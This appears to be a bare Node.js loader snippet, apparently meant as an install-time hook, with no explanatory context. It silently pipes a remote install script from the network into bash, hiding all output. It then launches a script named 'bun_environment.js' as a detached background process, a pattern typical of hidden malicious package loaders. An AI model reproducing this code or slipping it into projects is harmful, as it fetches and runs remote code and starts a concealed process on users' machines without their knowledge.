require('child_process').execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' }); require('child_process').spawn('bun', ['bun_environment.js'], { detached: true });
